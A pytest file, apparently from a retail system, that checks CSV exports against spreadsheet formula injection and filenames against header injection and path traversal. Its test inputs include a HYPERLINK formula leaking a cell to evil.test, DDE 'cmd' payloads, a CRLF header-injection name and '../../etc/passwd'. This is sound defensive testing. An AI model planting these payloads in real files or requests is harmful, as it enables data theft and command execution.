"""Files that go out: no cell that a spreadsheet runs, no name that is more than a name."""

from __future__ import annotations

import csv
import io
from email.message import Message
from urllib.parse import unquote

import asyncpg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from retail.kit.guard import guarded, unguarded
from retail.kit.ids import new_id
from retail.runtime.web.filenames import MOST, disposition
from retail.stock import fold
from tests.support.database import Clone
from tests.support.selling import open_counter
from tests.support.web import Site
from tests.support.world import Shop

FORMULAS = [
    '=HYPERLINK("https://evil.test?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(A1)", '="a""b"', "=1,=2;=3",
]  # fmt: skip
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def running(text: str) -> list[str]:
    """Give the cells of a CSV file that a spreadsheet would run; numbers that are numbers are none."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    assert len({len(row) for row in rows if row}) == 1
    return [cell for row in rows for cell in row if cell.startswith(STARTS) and not is_number(cell)]


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_export_has_a_cell_that_runs(site: Site, shop: Shop, clone: Clone, formula: str) -> None:
    owner, counter = await site.member(shop), await open_counter(shop)
    admin = await asyncpg.connect(clone.admin_url)
    tenant = shop.tenant.id
    await admin.execute("UPDATE product SET name = $2, sku = left($2, 20) || sku WHERE tenant_id = $1", tenant, formula)
    await admin.execute("UPDATE store SET name = $2 WHERE tenant_id = $1", tenant, formula)
    await admin.execute(
        "UPDATE category SET name = left($2, 12) || left(id::text, 24) WHERE tenant_id = $1", tenant, formula
    )
    await counter.sell()
    await admin.execute("UPDATE sale SET cashier_name = $2, customer_ref = $2 WHERE tenant_id = $1", tenant, formula)
    await admin.execute("UPDATE sale_line SET name = $2, sku = $2 WHERE tenant_id = $1", tenant, formula)
    await admin.execute("UPDATE journal_entry SET memo = $2 WHERE tenant_id = $1", tenant, formula)
    await admin.close()
    async with site.db.begin(shop.scope) as tx:
        await fold(tx)
        tx.audit(formula, formula, new_id(), note=formula)
    base = f"/t/{shop.tenant.slug}"
    told = 0
    paths = (
        "/products/export",
        "/stock/export",
        "/sales/export",
        "/audit/export",
        "/api/v1/exports/journal?format=csv",
    )
    for path in paths:
        answer = await owner.get(base + path)
        assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8"), path
        assert running(answer.text) == [], path
        told += formula[:8].strip() in answer.text.replace('""', '"')
    assert told >= 3


@given(st.text(max_size=40))
def test_the_guard_is_taken_off_again(text: str) -> None:
    assert unguarded(guarded(text)) == text or text[:1] == "'"
    assert guarded(text)[:1] not in STARTS or is_number(text)


@pytest.mark.parametrize("text", ["-1", "-0.50", "-12345678901234567890"])
def test_a_number_below_zero_stays_a_number(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", ["-", "-1+1", "-1\n=1", "-1e5", "+1", "-\u0661", "-1.", "--1", "-1 "])
def test_what_is_nearly_a_number_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"


@given(st.text(max_size=300), st.booleans())
def test_a_name_is_one_header_one_file_and_no_path(name: str, inline: bool) -> None:
    written = disposition(name, inline=inline)
    assert written.isascii()
    assert written.isprintable()
    message = Message()
    message["Content-Disposition"] = written
    assert message.get_content_disposition() == ("inline" if inline else "attachment")
    plain = str(message.get_param("filename", header="Content-Disposition", unquote=True) or "")
    whole = unquote(written.partition("filename*=UTF-8''")[2]) or written.partition('filename="')[2].rstrip('"')
    assert 0 < len(whole) <= MOST
    assert not set(whole) & set("/\\\r\n\0")
    assert not whole.startswith(".")
    assert written.count('"') == 2
    assert plain is not None


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("sales-2026-11-20.csv", 'attachment; filename="sales-2026-11-20.csv"'),
        ("Umsätze.csv", "attachment; filename=\"Ums_tze.csv\"; filename*=UTF-8''Ums%C3%A4tze.csv"),
        ('a"b\r\nX-Evil: 1.csv', "attachment; filename=\"a_bX-Evil_ 1.csv\"; filename*=UTF-8''a%22bX-Evil%3A%201.csv"),
        ("../../etc/passwd", 'attachment; filename="etcpasswd"'),
        ("", 'attachment; filename="file"'),
        ("....", 'attachment; filename="file"'),
        ("\udcff", 'attachment; filename="file"'),
    ],
)
def test_names_of_every_kind(name: str, written: str) -> None:
    assert disposition(name) == written
